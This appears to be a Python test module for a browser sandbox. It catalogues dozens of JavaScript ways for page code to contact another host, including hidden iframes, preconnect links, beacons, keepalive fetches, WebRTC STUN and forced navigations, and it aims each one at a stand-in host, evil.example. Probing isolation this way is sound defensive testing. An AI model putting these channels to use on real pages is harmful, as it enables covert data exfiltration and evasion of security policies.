"""Ways by which code in a document could speak to another host, which is in `address`."""

from __future__ import annotations

from collections.abc import Mapping

_FRAME = "<iframe src='${address}'></iframe>"
_XHTML = "'http://www.w3.org/1999/xhtml'"


def _link(rel: str, more: str = "") -> str:
    return f"add('link', {{ rel: '{rel}', href: address{more} }})"


SILENT: Mapping[str, str] = {
    # Frames, by every way to make one.
    "iframe": "add('iframe', { src: address })",
    "iframe-namespace": f"""const made = document.createElementNS({_XHTML}, 'iframe');
        made.setAttribute('src', address);
        document.body.append(made)""",
    "iframe-prefix": f"""const made = document.createElementNS({_XHTML}, 'h:iframe');
        made.setAttribute('src', address);
        document.body.append(made)""",
    "iframe-changing-name": """let asked = 0;
        const name = { toString: () => (asked++ ? 'iframe' : 'div') };
        for (let turn = 0; turn < 3; turn += 1) add(name, { src: address })""",
    "iframe-inner": f"add('div', {{ innerHTML: `{_FRAME}` }})",
    "iframe-outer": f"add('div', {{}}).outerHTML = `{_FRAME}`",
    "iframe-adjacent": f"document.body.insertAdjacentHTML('beforeend', `{_FRAME}`)",
    "iframe-unsafe": f"add('div', {{}}).setHTMLUnsafe(`{_FRAME}`)",
    "iframe-parsed": f"document.body.append(Document.parseHTMLUnsafe(`{_FRAME}`).body.firstChild)",
    "iframe-fragment": f"""document.body.append(
        document.createRange().createContextualFragment(`{_FRAME}`))""",
    "iframe-parser": f"""document.body.append(
        new DOMParser().parseFromString(`{_FRAME}`, 'text/html').body.firstChild)""",
    "iframe-xml": f"""document.body.append(new DOMParser().parseFromString(
        `<h:iframe xmlns:h=${{ {_XHTML}.replace(/.*/, '"$&"') }} src='${{address}}'/>`,
        'text/xml').documentElement)""",
    "iframe-entity": f"""document.body.append(new DOMParser().parseFromString(
        `<!DOCTYPE p [<!ENTITY e "&#60;iframe src='${{address}}'/>">]>` +
        `<p xmlns=${{ {_XHTML}.replace(/.*/, '"$&"') }}>&e;</p>`, 'text/xml').documentElement)""",
    "iframe-document": f"""const made = document.implementation
          .createDocument({_XHTML}, 'iframe').documentElement;
        made.setAttribute('src', address);
        document.body.append(made)""",
    "iframe-other-document": """const made =
          document.implementation.createHTMLDocument('').createElement('iframe');
        made.src = address;
        document.body.append(made)""",
    "iframe-template": f"""const template = document.createElement('template');
        template.innerHTML = `{_FRAME}`;
        document.body.append(template.content.cloneNode(true))""",
    "iframe-shadow": f"""add('div', {{}}).attachShadow({{ mode: 'open' }}).innerHTML =
        `{_FRAME}`""",
    "iframe-class": """class Made extends HTMLIFrameElement {}
        customElements.define('made-frame', Made, { extends: 'iframe' });
        const made = new Made();
        made.src = address;
        document.body.append(made)""",
    "iframe-command": f"""const room = add('div', {{ contentEditable: 'true', textContent: 'x' }});
        room.focus();
        getSelection().selectAllChildren(room);
        document.execCommand('insertHTML', false, `{_FRAME}`)""",
    "iframe-srcdoc": f"add('iframe', {{ srcdoc: `{_FRAME}` }})",
    "iframe-script": "add('iframe', { src: `javascript:location='${address}'` })",
    "iframe-blank": "add('iframe', {}).contentWindow.location = address",
    "iframe-late-prototype": """String.prototype[6] = 'x';
        try { add('iframe', { src: address }) } finally { delete String.prototype[6]; }""",
    "object": "add('object', { data: address })",
    "embed": "add('embed', { src: address })",
    # What is connected to or loaded ahead.
    "preconnect": _link("preconnect"),
    "preconnect-late": "add('link', { rel: 'preconnect' }).setAttribute('href', address)",
    "preconnect-upper": "add('link', { rel: 'preconnect' }).setAttribute('HREF', address)",
    "preconnect-namespace": """add('link', { rel: 'preconnect' })
        .setAttributeNS(null, 'href', address)""",
    "preconnect-node": """const attribute = document.createAttribute('href');
        attribute.value = address;
        add('link', { rel: 'preconnect' }).setAttributeNode(attribute)""",
    "preconnect-value": """const link = add('link', { rel: 'preconnect', href: '/assets/x' });
        link.attributes.href.value = address""",
    "preconnect-text": """const link = add('link', { rel: 'preconnect', href: '/assets/x' });
        link.attributes.href.textContent = address""",
    "preconnect-markup": "add('div', { innerHTML: `<link rel=preconnect href='${address}'>` })",
    "preconnect-safe": """add('div', {}).setHTML(`<link rel=preconnect href='${address}'>`,
        { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } })""",
    "preconnect-clone": """const link = document.createElement('link').cloneNode();
        document.head.append(Object.assign(link, { rel: 'preconnect', href: address }))""",
    "look-up": _link("dns-prefetch"),
    "prefetch": _link("prefetch"),
    "modulepreload": _link("modulepreload"),
    "preload": _link("preload", ", as: 'fetch'"),
    "preload-picture": _link("preload", ", as: 'image'"),
    "stylesheet": _link("stylesheet"),
    "dictionary": _link("compression-dictionary"),
    # What pictures, styles, fonts and media load.
    "picture": "new Image().src = address",
    "picture-set": "add('img', { srcset: `${address} 1x` })",
    "poster": "add('video', { poster: address, src: address }).load()",
    "sound": "new Audio(address).play().catch(() => {})",
    "style-import": "add('style', { textContent: `@import '${address}';` })",
    "style-background": "document.body.style.backgroundImage = `url(${address})`",
    "style-font": "new FontFace('made', `url(${address})`).load().catch(() => {})",
    "svg": """add('div', { innerHTML: `<svg><image href='${address}'/>
        <filter id=f><feImage href='${address}'/></filter></svg>` })""",
    # What scripts ask for.
    "fetch": "fetch(address).catch(() => {})",
    "fetch-kept": "fetch(address, { mode: 'no-cors', keepalive: true }).catch(() => {})",
    "fetch-later": "fetchLater(address, { activateAfter: 0 })",
    "request": "const asked = new XMLHttpRequest(); asked.open('GET', address); asked.send()",
    "socket": "new WebSocket(address.replace('https', 'wss'))",
    "events": "new EventSource(address)",
    "beacon": "navigator.sendBeacon(address, 'x')",
    "script": "add('script', { src: address })",
    "import": "import(address).catch(() => {})",
    "worker": """new Worker(URL.createObjectURL(
        new Blob([`fetch('${address}').catch(() => {})`])))""",
    "worklet": "new AudioContext().audioWorklet.addModule(address).catch(() => {})",
    "datagram": "new WebTransport(address).ready.catch(() => {})",
    "call": """const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stranger}` }] });
        call.createDataChannel('x');
        await call.setLocalDescription(await call.createOffer())""",
    "ping": """const link = add('a', { href: '#here', ping: address });
        link.click()""",
    # Succeeding, it ends the document it is in, and so comes last.
    "iframe-written": f"document.write(`{_FRAME}`)",
}
"""What nobody sees, as often as the code likes."""

LEADING_AWAY: Mapping[str, str] = {
    "location": "location.href = address",
    "location-replace": "location.replace(address)",
    "location-document": "document.location = address",
    "open": "open(address, '_self')",
    "navigation": "navigation.navigate(address)",
    "anchor": """add('a', { href: address }).click()""",
    "anchor-stopped": """const link = add('a', { href: address });
        link.addEventListener('click', (event) => event.stopImmediatePropagation());
        link.click()""",
    "area": """add('area', { href: address }).click()""",
    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${address}` })",
    "refresh-markup": """document.head.innerHTML =
        `<meta http-equiv="refresh" content="0;url=${address}">`""",
    "form": "add('form', { action: address }).submit()",
    "form-post": "add('form', { action: address, method: 'post' }).submit()",
    "form-request": "add('form', { action: address }).requestSubmit()",
    "form-button": """const form = add('form', {});
        form.innerHTML = `<button formaction='${address}'>Go</button>`;
        form.firstChild.click()""",
}
"""What replaces the document it is in, and so happens once."""

UNBREAKABLE = frozenset(
    {"location", "location-replace", "location-document", "open", "navigation", "anchor-stopped"}
)
"""Those no script can close: without headers, Chromium connects before it refuses."""


def write_attempts(attempts: Mapping[str, str], stranger: str) -> str:
    """A script with a function that tries them one after the other."""
    port = stranger.rpartition(":")[2]
    tries = ",\n".join(
        f"  '{name}': async (address) => {{ {way} }}" for name, way in attempts.items()
    )
    return f"""
const stranger = '{stranger}';
const add = (name, properties) => {{
  const made = Object.assign(document.createElement(name), properties);
  document.body.append(made);
  return made;
}};
const tries = {{
{tries}
}};
const tryAll = async () => {{
  for (const [name, attempt] of Object.entries(tries)) {{
    try {{
      await attempt(`https://${{name}}.evil.example:{port}/typed`);
    }} catch {{}}
  }}
  // What was asked for is on its way.
  await new Promise((tick) => setTimeout(tick, 1500));
}};
"""
